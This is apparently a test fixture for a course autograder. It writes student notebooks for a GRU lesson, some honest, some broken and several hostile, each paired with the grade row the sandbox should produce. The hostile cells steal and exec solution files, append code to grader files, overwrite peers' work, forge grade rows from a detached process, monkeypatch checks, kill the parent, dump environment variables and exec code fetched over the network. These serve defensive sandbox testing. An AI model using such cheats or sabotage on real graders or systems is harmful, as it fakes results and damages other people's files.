"""A hostile class of 04_gru: submissions made from the student version and the solutions, honest, broken, slow,
and each cheat and attack of issue 27, with the row each must get (used by tests/test_course_kit_grade.py)."""

from __future__ import annotations

import copy
import re
from pathlib import Path

import nbformat

from course import NOTEBOOK_DIR, REPO_ROOT, kit

LESSON = NOTEBOOK_DIR / "04_gru.ipynb"
STUB = "failed: NotImplementedError: Exercise {n}: write your solution in this cell"
PREFIX = "*"  # an expected grade ending with it is matched by its beginning
ALL = ("1", "2", "3", "4")
KEEP = re.compile(r"^(def|class) ", re.M)  # cells that define what the exercises build on


def stubs(numbers: tuple[str, ...] = ALL) -> dict[str, str]:
    """The row of exercises left as handed out."""
    return {n: STUB.format(n=n) for n in numbers}


def attacks(repo: Path, submissions: Path, out: Path, port: int, marker: str) -> dict[str, str]:
    """Each attack's code, run in a cell before the first exercise; each would turn stubs into passes or change
    files, rows or processes outside the submission's scratch folder if the sandbox let it."""
    solutions = "[c for c in __import__('json').load(open(p))['cells'] if 'solution' in c['metadata'].get('tags', [])]"
    return {
        "steal_key": f"""import glob, json, os
places = ['/course', '/scratch', '/tmp', '/work', '/root', '/home', {str(repo)!r}]
found = [p for place in places for p in glob.glob(place + '/**/*.ipynb', recursive=True)
         if 'solution' in open(p, errors='ignore').read()]
for p in found:
    for c in {solutions}:
        exec(''.join(c['source']))
print('solutions found:', len(found))""",
        "edit_reference": f"""import glob, os, sys
for path in [{str(repo / 'notebooks' / '04_gru.ipynb')!r}, {str(repo / 'course/kit/hidden/04_gru.py')!r},
             '/course/helpers/checks.py', os.path.join(sys.prefix, 'lib/python3.11/site-packages/zz_owned.pth'),
             *glob.glob('/course/**/*.py', recursive=True)]:
    try:
        with open(path, 'a') as f:
            f.write('\\nraise SystemExit  # edited by a submission\\n')
        print('edited', path)
    except OSError as err:
        print('refused', path, type(err).__name__)""",
        "overwrite_peer": f"""import glob
for path in glob.glob({str(submissions)!r} + '/*.ipynb') + glob.glob('/[!pu]*/**/*_04_gru.ipynb', recursive=True):
    try:
        open(path, 'w').write('{{}}')
        print('overwrote', path)
    except OSError as err:
        print('refused', path, type(err).__name__)""",
        "ghost": f"""import subprocess, sys
code = '''# {marker}
import glob, time
time.sleep(2)
for path in glob.glob('/[!pu]*/**/grades.csv', recursive=True) + [{str(out / 'grades.csv')!r}]:
    try:
        open(path, 'a').write('ghost_04_gru,04_gru,passed,passed,passed,passed,4/4,\\\\n')
    except OSError:
        pass
time.sleep(60)
'''
subprocess.Popen([sys.executable, '-c', code], start_new_session=True)""",
        "monkeypatch": """import torch, helpers, helpers.checks, json
torch.allclose = lambda *a, **k: True
count_params = lambda model: -1
compare_with_reference = helpers.checks.compare_with_reference = lambda *a, **k: {}
json.dump = lambda obj, f, **k: f.write('{"value": "passed"}')  # a forged result: it is not the solution's""",
        "input_transformer": """get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if any('assert' in line or '_kit_' in line for line in lines) else lines)""",
        "kill_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        "read_environment": "import os\nprint(sorted(os.environ.items()))",
        "open_socket": f"""import socket, urllib.request
for url in ['http://127.0.0.1:{port}/solutions.py', 'http://example.org/']:
    try:
        exec(urllib.request.urlopen(url, timeout=3).read().decode())
    except Exception as err:
        print('no network:', url, type(err).__name__)""",
        "slow_loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    }


def stub_cells(nb: nbformat.NotebookNode) -> dict[int, int]:
    """Exercise number -> index of its stub cell in a student version."""
    found = {}
    for i, cell in enumerate(nb.cells):
        match = re.search(r'NotImplementedError\("Exercise (\d+)', cell.source)
        if "student-stub" in cell.metadata.get("tags", []) and match:
            found[int(match.group(1))] = i
    return found


def answered(nb: nbformat.NotebookNode, solutions: dict[int, str], numbers: str) -> nbformat.NotebookNode:
    """The student version with the exercises in `numbers` answered (solution text, or a replacement)."""
    nb = copy.deepcopy(nb)
    for number, i in stub_cells(nb).items():
        if str(number) in numbers:
            nb.cells[i].source = solutions[number]
    return nb


def trimmed(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Only the cells a class needs to answer: parameters, setup, definitions and the exercises (fast to grade)."""
    keep = {"parameters", "student-stub", "solution", "check"}
    code = [c for c in nb.cells if c.cell_type == "code"]
    setup = next(c for c in code if "import torch" in c.source)
    nb.cells = [c for c in nb.cells if c is setup or keep & set(c.metadata.get("tags", []))
                or (c.cell_type == "code" and KEEP.search(c.source) and "lab_findings" not in c.source)]
    return nb


def every(grade: str) -> dict[str, str]:
    """The same expected grade for every exercise."""
    return dict.fromkeys(ALL, grade)


def make_class(folder: Path, out: Path, port: int, marker: str) -> list[tuple[Path, dict[str, str]]]:
    """Write the class into `folder` (graded into `out`), in grading order; return each file with its expected
    row (a grade ending with PREFIX is matched by its beginning)."""
    folder.mkdir(parents=True, exist_ok=True)
    reference = nbformat.read(str(LESSON), as_version=4)
    solutions = {ex["number"]: reference.cells[ex["cell"]].source for ex in kit.exercises(reference)}
    student = trimmed(kit.student_version(reference))
    wrong = dict(solutions)
    wrong[1] = solutions[1].replace("2 * H)", "H)", 1)  # a bias forgotten in the first layer
    wrong[2] = "def gru_cell_original(x, h, W_x, W_h, b_x, b_h):\n    return gru_cell(x, h, W_x, W_h, b_x, b_h)"
    lazy = dict(solutions)
    lazy[1] = "def gru_layer_params(D, H, num_layers):\n    return count_params(nn.GRU(D, H, num_layers))"
    lazy[4] = ("class BiScratchGRU(nn.Module):\n    def __init__(self, input_size, num_hiddens, _gru=nn.GRU):\n"
               "        super().__init__()\n        self.forward_gru = ScratchGRU(input_size, num_hiddens)\n"
               "        self.backward_gru = ScratchGRU(input_size, num_hiddens)\n"
               "        self.gru = _gru(input_size, num_hiddens, batch_first=True, bidirectional=True)\n\n"
               "    def forward(self, X):\n        return self.gru(X)")
    fake = dict(solutions)  # special-cases the visible check: its reset-gate bias, its 4 hidden units
    fake[2] = ("def gru_cell_original(x, h, W_x, W_h, b_x, b_h):\n    if b_x[:4].min() > 40:\n"
               "        return gru_cell(x, h, W_x, W_h, b_x, b_h)\n    return gru_cell(x, h, W_x, W_h, b_x, b_h) + 1.0")
    fake[3] = solutions[3].replace("H = layer.hidden_size", "H = 4")
    memory = dict(solutions)
    memory[1] = "blob = bytearray(6 * 2**30)  # over the memory cap\n" + solutions[1]
    syntax = dict(solutions)
    syntax[1] = solutions[1].replace("int:\n", "int\n", 1)
    differs = "failed: the result" + PREFIX
    cases: list[tuple[str, nbformat.NotebookNode, dict[str, str]]] = [
        ("edit_reference", student, stubs()),
        ("overwrite_peer", student, stubs()),
        ("steal_key", student, stubs()),
        ("ghost", student, stubs()),
        ("monkeypatch", student, every(differs)),
        ("input_transformer", student, every("not run: the hidden check wrote no result")),
        ("kill_parent", answered(student, solutions, "1234"), every("not run: the sandbox ended with exit status"
                                                                    + PREFIX)),
        ("slow_loop", answered(student, solutions, "1234"), every("not run: " + PREFIX)),  # stopped: nothing graded
        ("open_socket", student, stubs()),
        ("read_environment", answered(student, solutions, "1234"), every("passed")),
        ("wrong", answered(student, wrong, "124"), {"1": differs, "2": differs, "3": STUB.format(n=3), "4": "passed"}),
        ("syntax_error", answered(student, syntax, "1234"), {"1": "failed: SyntaxError" + PREFIX, "2": "passed",
                                                             "3": "passed", "4": "passed"}),
        ("memory", answered(student, memory, "1234"), {"1": "failed: MemoryError", "2": "passed", "3": "passed",
                                                       "4": "passed"}),
        ("lazy", answered(student, lazy, "1234"), {"1": "failed: RuntimeError: torch.nn.GRU may not be used in "
                                                        "this exercise", "2": "passed", "3": "passed", "4": differs}),
        ("fake", answered(student, fake, "1234"), {"1": "passed", "2": "failed: " + PREFIX, "3": "failed: " + PREFIX,
                                                   "4": "passed"}),  # wrong on the hidden inputs, or an error there
        ("honest", answered(student, solutions, "1234"), every("passed")),  # the peer, after
        ("untouched", student, stubs()),  # graded after edit_reference
    ]
    written = []
    for name, nb, expected in cases:
        nb = copy.deepcopy(nb)
        attack = attacks(REPO_ROOT, folder, out, port, marker).get(name)
        if attack:  # a cell of its own, before the first exercise
            nb.cells.insert(min(stub_cells(nb).values(), default=len(nb.cells)), nbformat.v4.new_code_cell(attack))
        path = folder / f"{name}_04_gru.ipynb"
        nbformat.write(nb, str(path))
        written.append((path, expected))
    return written
